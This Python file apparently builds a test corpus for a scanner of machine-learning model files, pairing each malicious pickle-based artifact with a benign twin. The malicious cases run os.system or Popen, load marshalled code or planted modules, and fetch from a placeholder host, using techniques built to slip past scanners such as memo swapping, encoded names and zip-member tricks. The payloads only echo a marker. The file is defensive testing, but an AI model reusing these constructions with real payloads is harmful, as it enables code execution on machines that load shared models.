"""Pickles and what holds them: functions of libraries, streams by hand, containers, what training leaves, estimators' own files."""
import base64, codecs, collections, functools, gzip, io, lzma, marshal, os, struct
import numpy
from base import GONE, HOST, SAY, Call, G, Storage, add, checkpoint, dumps, estimator, fakes, floats, h5, joblib_dump, js, legacy, obj, op, pair, safetensors, tarred, torch_zip, weights, zipped


def beside(x, k=0): return {"model": estimator(k), "features": ["age", "height", "weight"][:2 + k % 2], "calibration": x, "version": f"1.{k}"}
def npy(x):
    out, box = io.BytesIO(), numpy.empty(2, object)
    box[0], box[1] = "labels", x
    with fakes(): numpy.save(out, box, allow_pickle=True)
    return out.getvalue()


HOLDERS = [("model.pkl", lambda x, k: dumps(beside(x, k), 4)), ("model.joblib", lambda x, k: joblib_dump(beside(x, k))), ("pytorch_model.bin", checkpoint), ("model.pkl", lambda x, k: dumps(beside(x, k), 2)), ("classes.npy", lambda x, k: npy(x)),
           ("model.joblib", lambda x, k: joblib_dump(beside(x, k), ("zlib", 3))), ("best.ckpt", checkpoint), ("pipeline.pickle", lambda x, k: dumps(beside(x, k), 5)), ("weights.pth", lambda x, k: legacy({"net": weights(k)[0], "meta": x}, weights(k)[1])), ("vectorizer.pkl.gz", lambda x, k: gzip.compress(dumps(beside(x, k), 3), mtime=0))]
PLAIN = [{"temperature": 1.5, "bins": 10}, collections.OrderedDict(a=.1, b=.2), numpy.arange(6).reshape(2, 3) / 7, collections.Counter(yes=31, no=29), ["low", "high"], collections.defaultdict(list, {"x": [1, 2]})]
CODE = "__import__('os').system('echo jingwei')"
BYTECODE = marshal.dumps(compile(CODE, "m", "exec"))
# technique: function and arguments. All are defined in the newest wheels of their libraries (verify.py --names).
LIBRARY = {
    "process-helper": [("TTS.encoder.utils.prepare_voxceleb:exec_cmd", ["echo", "jingwei"]), ("huggingface_hub.utils._subprocess:run_subprocess", SAY)],
    "process-helper-vision": [("monai.utils.misc:run_cmd", ["echo", "jingwei"]), ("mmengine.utils.package_utils:call_command", ["echo", "jingwei"])],
    "process-helper-serving": [("mlflow.utils.process:_exec_cmd", ["echo", "jingwei"]), ("ray.util.spark.utils:exec_cmd", ["echo", "jingwei"])],
    "process-stdlib": [("_osx_support:_read_output", SAY), ("imaplib:IMAP4_stream", SAY)],
    "code-helper": [("fastcore.basics:exec_new", CODE), ("sktime.registry._craft:craft", CODE)],
    "expression-helper": [("numba.core.sigutils:_parse_signature_string", CODE), ("sglang.srt.debug_utils.dumper:_evaluate_filter", CODE, {})],
    "import-helper": [("nemo.utils.model_utils:import_class_by_path", "jingwei_payload.Model"), ("mlflow.crewai:_import_module", "jingwei_payload")],
    "import-file-helper": [("spacy.util:import_file", "m", GONE + ".py"), ("lm_eval.tasks._yaml_loader:_load_module_with_cache", GONE + ".py")],
    "native-library": [("ctransformers.llm:load_library", GONE + ".so", False), ("numpy.ctypeslib:load_library", "jingwei", "/nonexistent")],
    "loads-again": [("joblib.numpy_pickle:load", "/nonexistent/jingwei.joblib"), ("pandas.io.pickle:read_pickle", HOST + ".pkl")],
    "fetch-helper": [("fastcore.net:urlsave", HOST, GONE), ("open_clip.pretrained:download_pretrained_from_url", HOST, "/nonexistent")],
    "write-or-delete": [("dill._dill:_create_filehandle", GONE, "w", 0, False, open, False, 0, "jingwei"), ("optimum.utils.testing_utils:remove_directory", GONE)],
    "built-from-configuration": [("logging.config:dictConfig", {"version": 1, "handlers": {"h": {"()": "os.system", "command": SAY}}, "root": {"handlers": ["h"]}}), ("ray.rllib.utils.from_config:from_config", None, {"type": "os.system", "command": SAY})],
}
n = 0
for technique, rows in LIBRARY.items():
    for dotted, *args in rows:
        file, make = HOLDERS[n % len(HOLDERS)]
        add(f"library/{technique}/{dotted.split(':')[1].strip('_')}-{n}", "block", f"{dotted} starts, fetches, writes or runs what the file says", {file: make(Call(dotted, *args), n)}, {file: make(PLAIN[n % len(PLAIN)], n)})
        n += 1

# Streams by hand. Each leaves one object; `wrap` makes a protocol 4 pickle of a dictionary with it.
def wrap(code, k=0):
    inner = dumps(beside(1, k), 4)  # \x80\x04\x95 frame … .
    return b"\x80\x04" + b"(" + op("model") + inner[11:-1] + op("extra") + code + b"d."
def glob(module, name): return op(module, name) + b"\x93"
SYS = glob("posix", "system")
RUN = op(SYS, SAY, b"\x85R")
COUNT = op(glob("collections", "Counter"), "yes", b"\x85R")
for k, (module, name) in enumerate([("joblib.numpy_pickle", "os.system"), ("torch.hub", "os.system"), ("pandas.compat._optional", "importlib.import_module")]):
    arg = "jingwei_payload" if k == 2 else SAY
    add(f"streams/name-through-module/{module.split('.')[0]}", "block", f"protocol 4 walks {module} to {name}", {"model.pkl": wrap(op(glob(module, name), arg, b"\x85R"), k)}, {"model.pkl": wrap(op(glob("joblib.numpy_pickle", "NumpyArrayWrapper"), b")\x81}b"), k)})
pair("streams/memo-swapped/put-twice", "block", "a memo slot is set to a plain name and again to another before it is used", lambda x: {"model.pkl": wrap(op("collections", b"\x94q\x31", "OrderedDict", b"q\x32", b"00", x[0], b"q\x31", x[1], b"q\x32", b"00h\x31h\x32\x93", *x[2:]))}, ("posix", "system", SAY, b"\x85R"), ("collections", "Counter", "abc", b"\x85R"))
pair("streams/memo-swapped/long-put", "block", "the same with LONG_BINPUT and text of protocol 0", lambda x: {"model.pkl": wrap(b"V" + x[0] + b"\nr\x07\x00\x01\x00V" + x[1] + b"\nr\x08\x00\x01\x000" + b"0j\x07\x00\x01\x00j\x08\x00\x01\x00\x93" + op(x[2], b"\x85R"))}, (b"\\u0070osix", b"s\\u0079stem", SAY), (b"c\\u006fllections", b"Counter", "abc"))
pair("streams/name-computed/concat", "block", "the module's name is put together by operator.concat", lambda x: {"clf.pkl": wrap(op(glob("_operator", "concat"), x[0], x[1], b"\x86R", x[2], b"\x93", x[3], b"\x85R"))} if x[0] else {"clf.pkl": wrap(COUNT)}, ("po", "six", "system", SAY), ("", "", "", ""))
pair("streams/name-computed/decode", "block", "the name comes from codecs.decode of rot13", lambda x: {"clf.pkl": wrap(x, 1)}, op(op("posix"), glob("_codecs", "decode"), codecs.encode("system", "rot13"), "rot13", b"\x86R\x93", SAY, b"\x85R"), op(glob("_codecs", "encode"), "abc", "latin1", b"\x86R"))
pair("streams/registered-extension/ext1", "block", "copyreg.add_extension in the pickle, then EXT1", lambda x: {"model.pkl": wrap(x, 2)}, op(glob("copyreg", "add_extension"), "posix", "system", b"K\xf1\x87R0\x82\xf1", SAY, b"\x85R"), COUNT)
pair("streams/old-opcodes/obj", "block", "OBJ with a function", lambda x: {"model.pkl": wrap(x, 3)}, op(b"(cos\nsystem\n", SAY, b"o"), op(b"(ccollections\nCounter\n", "yes", b"o"))
pair("streams/keyword-construction/newobj-ex", "block", "NEWOBJ_EX or a partial gives Popen its keywords", lambda x: {"model.pkl": dumps(beside(x), 4)}, Call(functools.partial(G("subprocess:Popen"), shell=True), SAY), functools.partial(int, base=2))
for name, tail in (("bad-opcode", b"\xff"), ("cut", b"")):
    add(f"streams/broken-after-call/{name}", "block", "the stream breaks off after the call has been made", {"model.pkl": wrap(RUN)[:-2] + tail}, {"model.pkl": wrap(COUNT, len(tail))})
add("streams/broken-after-call/torch", "block", "the same within a torch zip", {"pytorch_model.bin": torch_zip(None, weights()[1], pickled=b"\x80\x02" + op(b"cposix\nsystem\n", b"X\x0c\0\0\0echo jingwei", b"\x85R", b"\xfe"))}, {"pytorch_model.bin": checkpoint(1)})
from sklearn.preprocessing import FunctionTransformer
for k, (name, evil, good) in enumerate([("function-transformer", FunctionTransformer(os.system), FunctionTransformer(numpy.log1p)), ("forward-hooks", lambda: None, None), ("default-factory", collections.defaultdict(functools.partial(os.system, SAY)), collections.defaultdict(functools.partial(int, "0")))]):
    if k == 1:
        evil, good = (obj("torch.nn.modules.linear:Linear", training=False, _parameters={}, _buffers={}, _modules={}, _forward_hooks=collections.OrderedDict(h), in_features=4, out_features=2) for h in ({1: os.system}, {}))
        add("streams/called-later/forward-hooks", "block", "a module keeps os.system as its hook", {"model.pt": checkpoint(evil)}, {"model.pt": checkpoint(good)})
    else: add(f"streams/called-later/{name}", "block", "an object keeps a function that runs when the model is used", {"model.joblib": joblib_dump(beside(evil, k))}, {"model.joblib": joblib_dump(beside(good, k))})
pair("streams/class-patched/build", "block", "BUILD with slots sets a method of joblib's array wrapper to os.system", lambda x: {"model.pkl": wrap(x)}, op(glob("joblib.numpy_pickle", "NumpyArrayWrapper"), b"N}", "read", SYS, b"s\x86b"), op(glob("sklearn.linear_model._ridge", "Ridge"), b")\x81}", "alpha", b"K\x01sb"))
pair("streams/class-patched/setattr", "block", "setattr on a module that every loader uses", lambda x: {"model.pkl": dumps(beside(x, 2))}, Call(setattr, G("json:JSONDecoder"), "decode", os.system), io.BytesIO(b"abc"))
pair("streams/inner-pickle/loads", "block", "pickle.loads of bytes", lambda x: {"model.pkl": dumps(beside(x, 3))}, Call("_pickle:loads", dumps(Call(os.system, SAY))), dumps({"a": 1}))
pair("streams/inner-pickle/storage", "block", "torch.storage._load_from_bytes of a legacy file", lambda x: {"data.pkl": dumps({"tensor": Call("torch.storage:_load_from_bytes", legacy(x, {"0": floats(4)}))})}, Call(os.system, SAY), weights()[0]["encoder.bias"])
pair("streams/inner-pickle/marshal", "block", "code by marshal, made a function and called", lambda x: {"features.pkl": wrap(x, 1)}, op(glob("types", "FunctionType"), glob("marshal", "loads"), b"C" + bytes([len(BYTECODE)]) + BYTECODE, b"\x85R}\x86R)R"), op(glob("_codecs", "encode"), "mean", "latin1", b"\x86R"))
pair("streams/starves-reader/doubling", "review", "30 nested tuples of two: 2^30 parts when it is printed, hashed or copied", lambda k: {"vocab.pkl": b"\x80\x04" + op("seed") + b"\x94" + b"".join(b"h" + bytes([i]) + b"h" + bytes([i]) + b"\x86\x94" for i in range(k)) + b"."}, 30, 3)
pair("streams/starves-reader/bytes", "review", "BINBYTES8 tells of 2^62 bytes, or bytearray(2^40) is called", lambda k: {"vocab.pkl": dumps({"buffer": Call(bytearray, k)})}, 1 << 40, 16)

# Containers
pair("containers/second-pickle/legacy-keys", "block", "the fifth pickle of a legacy torch file", lambda x: {"model.pth": legacy(weights()[0], weights()[1], keys=x)}, [Call(os.system, SAY)], None)
pair("containers/second-pickle/legacy-info", "block", "the third pickle of a legacy torch file", lambda x: {"model.pth": legacy(weights(1)[0], weights(1)[1], info={"protocol_version": 1001, "little_endian": True, "type_sizes": x})}, Call(os.system, SAY), {"short": 2, "int": 4, "long": 4})
def npz(members): return zipped([(name, data) for name, data in members])
def plain_npy(): out = io.BytesIO(); numpy.save(out, numpy.ones((2, 3), "f4")); return out.getvalue()
pair("containers/object-array/npz-member", "block", "one object array among plain ones", lambda x: {"weights.npz": npz([("dense_0.npy", plain_npy()), ("dense_1.npy", x)])}, npy(Call(os.system, SAY)), plain_npy())
def struct_npy(kind):
    out = io.BytesIO()
    rows = numpy.zeros(2, [("id", "i4"), ("label", kind)])
    if kind == "O": rows["label"] = [Call(os.system, SAY), "b"]
    numpy.save(out, rows, allow_pickle=True)
    return out.getvalue()
pair("containers/object-array/structured", "block", "a field of a structured array is of object kind", lambda x: {"meta.npy": struct_npy(x)}, "O", "U8")
pair("containers/compressed/joblib-lzma", "block", "joblib, lzma", lambda x: {"model.joblib.xz": joblib_dump(beside(x), ("xz", 3))}, Call(os.system, SAY), 1)
pair("containers/compressed/no-suffix", "block", "an lzma pickle that is named like text", lambda x: {"vocab.txt": lzma.compress(dumps(x)), "config.json": "{}\n"}, Call(os.system, SAY), {"the": 0, "of": 1})
def wrapper(x):
    """joblib's own array wrapper in the old manner: it reads the file that it names."""
    made = obj("joblib.numpy_pickle_compat:NDArrayWrapper", filename=x, subclass=numpy.ndarray, allow_mmap=False)
    return {"model.joblib": b"\x80\x03" + dumps({"coef": made}, 3)[2:], **({"model.joblib_01.npy": plain_npy()})}
pair("containers/joblib-names-file/old-wrapper", "block", "joblib's wrapper of old files reads /nonexistent/jingwei.npy with pickles allowed", wrapper, "/nonexistent/jingwei.npy", "model.joblib_01.npy")
pair("containers/pickle-in-array/joblib-object", "block", "an array of objects in joblib: a pickle of its own inside", lambda x: {"encoder.joblib": joblib_dump({"classes": numpy.array([x, "b"], dtype=object)})}, Call(os.system, SAY), "a")
def frame(x):
    import pandas
    return pandas.DataFrame({"label": ["a", "b"], "extra": [x, 1]})
pair("containers/pandas/frame-cell", "block", "a cell of a pickled data frame", lambda x: {"train.pkl": dumps(frame(x), 5)}, Call(os.system, SAY), 2)
def pytables(x):
    def fill(f):
        g = f.create_group("df")
        for node, kind in ((f, b"GROUP"), (g, b"GROUP")): node.attrs["CLASS"], node.attrs["VERSION"] = numpy.bytes_(kind), numpy.bytes_(b"1.0")
        f.attrs["PYTABLES_FORMAT_VERSION"] = numpy.bytes_(b"2.1")
        g.attrs["pandas_type"], g.attrs["values_cols"] = numpy.bytes_(b"frame"), numpy.bytes_(x)
        g.create_dataset("block0_values", data=numpy.ones((2, 2)))
    return {"features.h5": h5(fill)}
pair("containers/pandas/hdf-attribute", "block", "PyTables unpickles attributes of text that look like pickles", pytables, dumps(Call(os.system, SAY), 0), dumps(["values_block_0"], 0))
def later():
    space = {}
    exec(compile("def scale(x):\n    import os\n    os.system('echo jingwei')\n    return x\ndef plain(x):\n    return x / 2\n", "train.py", "exec"), {"__name__": "__main__"}, space)
    return space
def by_value(library, name):
    out = G(f"{library}:dumps")(later()[name], protocol=4)
    return {"preprocess.pkl": out}
add("containers/function-by-value/dill", "block", "dill rebuilds a function whose code starts a program", by_value("dill", "scale"), {"preprocess.pkl": dumps(beside(1, 1))})
add("containers/function-by-value/cloudpickle", "block", "cloudpickle rebuilds a function whose code starts a program", by_value("cloudpickle", "scale"), {"preprocess.pkl": dumps(FunctionTransformer(numpy.sqrt))})
add("containers/function-by-value/subimport", "block", "cloudpickle.subimport of a module that lies beside", {"model.pkl": dumps(beside(Call("cloudpickle.cloudpickle:subimport", "jingwei_payload"))), "jingwei_payload.py": "import os\nos.system('echo jingwei')\n"}, {"model.pkl": dumps(beside(numpy.float64(2))), "metrics.py": "def accuracy(a, b):\n    return sum(x == y for x, y in zip(a, b)) / len(a)\n"})
evil_zip = dumps({"weight": Call(os.system, SAY)}, 2)
add("containers/zip-tricks/two-data-pkl", "block", "two members of the same name, one good", {"model.pt": torch_zip({"w": 1}, more=[("archive/data.pkl", evil_zip)])}, {"model.pt": torch_zip({"w": 1}, more=[("archive/extra/note.txt", b"fine")])})
add("containers/zip-tricks/renamed-root", "block", "torch takes the root of the first member; another root, with the usual name, has a good pickle", {"model.pt": zipped([("a b/data.pkl", evil_zip), ("a b/version", b"3\n"), ("archive/data.pkl", dumps({"w": 1}, 2)), ("archive/version", b"3\n")])}, {"model.pt": torch_zip({"w": 1}, root="a b")})
add("containers/zip-tricks/front-matter", "review", "a picture before the zip: readers disagree on where it begins", {"model.pt": b"\x89PNG\r\n\x1a\n" + bytes(40) + torch_zip({"w": Call(os.system, SAY)})}, {"model.pt": torch_zip({"w": 2})})
def script(constants): return zipped([("m/data.pkl", dumps(obj("__torch__.net:Net", training=False), 2)), ("m/code/__torch__/net.py", b"class Net(Module):\n  __parameters__ = []\n  training : bool\n  def forward(self: __torch__.net.Net, x: Tensor) -> Tensor:\n    return torch.relu(x)\n"), ("m/constants.pkl", dumps(constants, 2)), ("m/version", b"3\n"), *([] if constants == () else [])])
pair("containers/torchscript/constants", "block", "constants.pkl of a TorchScript archive names a function", lambda x: {"model.ts": script(x)}, (Call(os.system, SAY),), ())
def script_code(body): return {"scripted.pt": zipped([("m/data.pkl", dumps(obj("__torch__.net:Net", training=False), 2)), ("m/code/__torch__/net.py", ("class Net(Module):\n  __parameters__ = []\n  training : bool\n  def forward(self: __torch__.net.Net, x: Tensor) -> Tensor:\n" + body).encode()), ("m/constants.pkl", dumps((), 2)), ("m/version", b"3\n")])}
pair("containers/torchscript/from-file", "block", "torch.from_file maps a file of the reader's into a tensor", script_code, f'    y = torch.from_file("{GONE}", True, 64, dtype=0)\n    return torch.add(x, torch.sum(y))\n', "    y = torch.add(x, 1)\n    return torch.relu(y)\n")
pair("containers/torchscript/save", "block", "torch.save writes a file while the model runs", script_code, f'    torch.save(x, "{GONE}")\n    return torch.relu(x)\n', "    return torch.softmax(x, -1)\n")
sym = {"as_expr": {"expr_str": "s0", "hint": {"as_int": 4}}}
def exported(expr, opaque=None, library=None):
    program = {"graph_module": {"graph": {"inputs": [{"as_tensor": {"name": "x"}}], "outputs": [{"as_tensor": {"name": "relu"}}], "nodes": [{"target": "torch.ops.aten.relu.default", "inputs": [{"name": "self", "arg": {"as_tensor": {"name": "x"}}, "kind": 1}], "outputs": [{"as_tensor": {"name": "relu"}}], "metadata": {}}], "tensor_values": {n: {"dtype": 7, "sizes": [{"as_expr": {"expr_str": expr, "hint": {"as_int": 4}}}], "requires_grad": False, "device": {"type": "cpu", "index": None}, "strides": [{"as_int": 1}], "storage_offset": {"as_int": 0}, "layout": 7} for n in ("x", "relu")}, "sym_int_values": {}, "sym_bool_values": {}}},
               "opset_version": {"aten": 10}, "range_constraints": {"s0": {"min_val": 2, "max_val": 64}}, "schema_version": {"major": 8, "minor": 14}, "torch_version": "2.15.0"}
    rows = [("m/archive_format", b"pt2"), ("m/archive_version", b"0"), ("m/models/model.json", js(program)), ("m/data/weights/model_weights_config.json", '{"config": {}}'), ("m/data/constants/model_constants_config.json", js({"config": {"scale": {"path_name": "opaque_obj_0", "is_param": False, "use_pickle": True, "tensor_meta": None}} if opaque else {}})), ("m/data/sample_inputs/model.pt", torch_zip(())), ("m/version", b"3\n")]
    return {"model.pt2": zipped(rows + ([("m/data/constants/opaque_obj_0", opaque)] if opaque else []) + ([("m/data/aotinductor/model/model.wrapper.so", library)] if library else []))}
add("containers/torch-export/size-expression", "block", "a size is an expression that sympify evaluates", exported(CODE), exported("2*s0"))
add("containers/torch-export/opaque-constant", "block", "an opaque constant is a pickle", exported("s0", dumps(Call(os.system, SAY))), exported("s0"))
add("containers/torch-export/native-code", "block", "an AOT-compiled library in the archive", exported("s0", library=b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\0\x3e\0" + bytes(44) + b"echo jingwei\0"), exported("s0 + 1"))
t = lambda size, stride, offset=0: {"w": Call("torch._utils:_rebuild_tensor_v2", Storage(0, 8), offset, size, stride, False, collections.OrderedDict())}
pair("containers/tensor-lies/beyond-storage", "review", "a tensor reaches past its storage", lambda x: {"model.pt": torch_zip(t(*x), {"0": floats(8)})}, ((4096, 4096), (4096, 1)), ((2, 4), (4, 1)))
pair("containers/tensor-lies/negative-offset", "review", "a tensor begins before its storage", lambda x: {"model.pt": torch_zip(t((2, 2), (2, 1), x), {"0": floats(8)})}, -64, 2)

# What training leaves beside the weights
run = Call(os.system, SAY)
keep = {"config.json": js({"model_type": "llama", "hidden_size": 64, "num_hidden_layers": 2}), "model.safetensors": safetensors()}
def left(name, expected_reason, file, make, group="training-leftovers"):
    pair(f"training/{group}/{name}", "block", expected_reason, lambda x: {**keep, file: make(x)}, run, {"seed": 7})
left("training-args", "arguments of a Trainer", "training_args.bin", lambda x: torch_zip(obj("transformers.training_args:TrainingArguments", output_dir="out", learning_rate=5e-5, seed=42, extra=x)))
left("rng-state", "state of random numbers", "rng_state.pth", lambda x: torch_zip({"python": (3, (1, 2, 3), None), "numpy": x, "cpu": 1}))
left("accelerate-random", "Accelerate's random states", "random_states_0.pkl", lambda x: torch_zip({"step": 3, "random_state": x}), "distributed")
left("dcp-metadata", "the .metadata of a distributed checkpoint is a pickle", "pytorch_model_fsdp_0/.metadata", lambda x: dumps(obj("torch.distributed.checkpoint.metadata:Metadata", state_dict_metadata={}, planner_data=x, storage_data={})), "distributed")
left("deepspeed", "a shard of DeepSpeed's states", "global_step10/mp_rank_00_model_states.pt", lambda x: checkpoint(x), "distributed")
pair("training/one-bad-shard/second-of-three", "block", "one of three shards", lambda x: {"pytorch_model.bin.index.json": js({"metadata": {"total_size": 99}, "weight_map": {f"l{i}.weight": f"pytorch_model-0000{i}-of-00003.bin" for i in (1, 2, 3)}}), **{f"pytorch_model-0000{i}-of-00003.bin": checkpoint(x if i == 2 else 0, i) for i in (1, 2, 3)}}, run, 0)
pair("training/one-bad-shard/lora-bin", "block", "an adapter's .bin beside good safetensors", lambda x: {"adapter_config.json": js({"peft_type": "LORA", "r": 8, "base_model_name_or_path": "gpt2"}), "adapter_model.safetensors": safetensors(k=3), "adapter_model.bin": checkpoint(x)}, run, 0)
hp = lambda h, **m: {"epoch=3.ckpt": torch_zip({"epoch": 3, "pytorch-lightning_version": "2.2.0", "hyper_parameters": h, "state_dict": weights()[0], **m}, weights()[1])}
pair("training/names-code-in-plain-data/lightning", "block", "Lightning before its list of trusted names imports and calls `_instantiator`", hp, {"lr": .1, "_instantiator": "os.system", "_class_path": SAY}, {"lr": .1, "hidden": 8})
pair("training/names-code-in-plain-data/pyannote", "block", "pyannote imports the module that the checkpoint names; it lies beside", lambda m: {**dict(zip(["pytorch_model.bin"], hp({"lr": .1}, **{"pyannote.audio": {"versions": {"torch": "2.1", "pyannote.audio": "3.1.0"}, "architecture": {"module": m, "class": "PyanNet"}, "specifications": None}}).values())), "jingwei_payload.py" if m[0] == "j" else "notes.txt": "import os\nos.system('echo jingwei')\n" if m[0] == "j" else "trained on 16 kHz\n"}, "jingwei_payload", "pyannote.audio.models.segmentation.PyanNet")

# Files of libraries that hold pickles
b64 = lambda x: base64.b64encode(dumps(x)).decode()
sb3 = lambda x: {"ppo-CartPole.zip": zipped([("data", js({"policy_class": {":type:": "<class 'abc.ABCMeta'>", ":serialized:": b64(G("stable_baselines3.common.policies:ActorCriticPolicy"))}, "n_envs": 4, "lr_schedule": {":type:": "<class 'function'>", ":serialized:": b64(x)}})), ("policy.pth", torch_zip(*weights())), ("pytorch_variables.pth", torch_zip(None)), ("_stable_baselines3_version", "2.7.0"), ("system_info.txt", "- OS: Linux\n")])}
add("libraries/reinforcement/sb3-schedule", "block", "a base64 pickle in the JSON of an agent's zip", sb3(run), sb3(3e-4))
pair("libraries/reinforcement/rllib", "block", "RLlib's state of an algorithm", lambda x: {"rllib_checkpoint.json": js({"type": "Algorithm", "checkpoint_version": "2.1", "format": "cloudpickle"}), "algorithm_state.pkl": dumps({"iteration": 9, "worker": x}), "class_and_ctor_args.pkl": dumps({"class": "PPO", "ctor_args_and_kwargs": ((), {})})}, run, {"weights": numpy.ones(3)})
pair("libraries/learners/fastai", "block", "a Learner that fastai exported", lambda x: {"export.pkl": torch_zip(obj("fastai.learner:Learner", path=x, loss_func=None, opt=None))}, run, "models")
pair("libraries/learners/geometric", "block", "processed data of PyTorch Geometric", lambda x: {"processed/data.pt": torch_zip((obj("torch_geometric.data.data:Data", _store=x), {"x": 1}))}, run, {"num_nodes": 4})
pair("libraries/learners/setfit-head", "block", "SetFit's head by joblib", lambda x: {**keep, "config_setfit.json": js({"labels": ["no", "yes"]}), "model_head.pkl": joblib_dump(beside(x, 2))}, run, 2)
pair("libraries/forecasters/sktime-zip", "block", "sktime's zip has pickles without a suffix", lambda x: {"forecaster.zip": zipped([("_metadata", dumps(G("sktime.forecasting.naive:NaiveForecaster"))), ("_obj", dumps(obj("sktime.forecasting.naive:NaiveForecaster", strategy="last", _y=x)))])}, run, 3)
pair("libraries/forecasters/autogluon", "block", "AutoGluon's learner", lambda x: {"metadata.json": js({"version": "1.6.3"}), "predictor.pkl": dumps(obj("autogluon.tabular.predictor.predictor:TabularPredictor", _learner=None)), "learner.pkl": dumps(obj("autogluon.tabular.learner.default_learner:DefaultLearner", label="y", extra=x))}, run, None)
def nemo(target): return {"stt.nemo": tarred([("./model_config.yaml", f"target: nemo.collections.asr.models.EncDecCTCModel\npreprocessor:\n  _target_: {target}\n  sample_rate: 16000\n"), ("./model_weights.ckpt", checkpoint(0))])}
add("libraries/nemo/target", "block", "Hydra's _target_ in NeMo's configuration", nemo("os.system\n  command: " + SAY), nemo("nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor"))
def skops(module, cls, loader, content, **more): return {"model.skops": zipped([("schema.json", js({"__class__": cls, "__module__": module, "__loader__": loader, "content": content, "__id__": 1, "protocol": 2, "_skops_version": "0.13.0", **more}))])}
num = lambda i, v: {"__class__": "str", "__module__": "builtins", "__loader__": "JsonNode", "content": v, "is_json": True, "__id__": i}
args = {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode", "content": [num(3, '"echo jingwei"')], "__id__": 2}
add("libraries/skops/reduce-node", "block", "a constructor's node calls os.system", skops("os", "system", "ConstructorFromReduceNode", args), skops("builtins", "list", "ListNode", [num(2, "1"), num(3, '"a"')]))
add("libraries/skops/operator-node", "block", "an operator's node says one function and calls another", skops("sklearn.linear_model._stochastic_gradient", "methodcaller", "OperatorFuncNode", [], attrs=args), skops("operator", "itemgetter", "OperatorFuncNode", [], attrs={**args, "content": [num(3, '"a"')]}))
add("libraries/skops/not-skops", "block", "a pickle that is named .skops, read by those who fall back", {"model.skops": joblib_dump(beside(run))}, skops("builtins", "tuple", "TupleNode", [num(2, "2")]))
faiss_store = lambda x: obj("langchain_community.docstore.in_memory:InMemoryDocstore", _dict=x)
pair("libraries/indexes/langchain-faiss", "block", "the pickle beside a FAISS index", lambda x: {"index.pkl": dumps((faiss_store({"1": "text"}), {0: x})), "index.faiss": b"IxF2" + struct.pack("<iqqqBi", 4, 1, 1 << 20, 1 << 20, 1, 1) + struct.pack("<Q", 4) + floats(4)}, run, "1")
pair("libraries/indexes/chroma-segment", "block", "Chroma's metadata of a segment", lambda x: {"3f2504e0-4f89-11d3-9a0c-0305e82c3301/index_metadata.pickle": dumps({"dimensionality": 4, "total_elements_added": 1, "id_to_label": x}), "3f2504e0-4f89-11d3-9a0c-0305e82c3301/header.bin": bytes(100)}, run, {"a": 1})
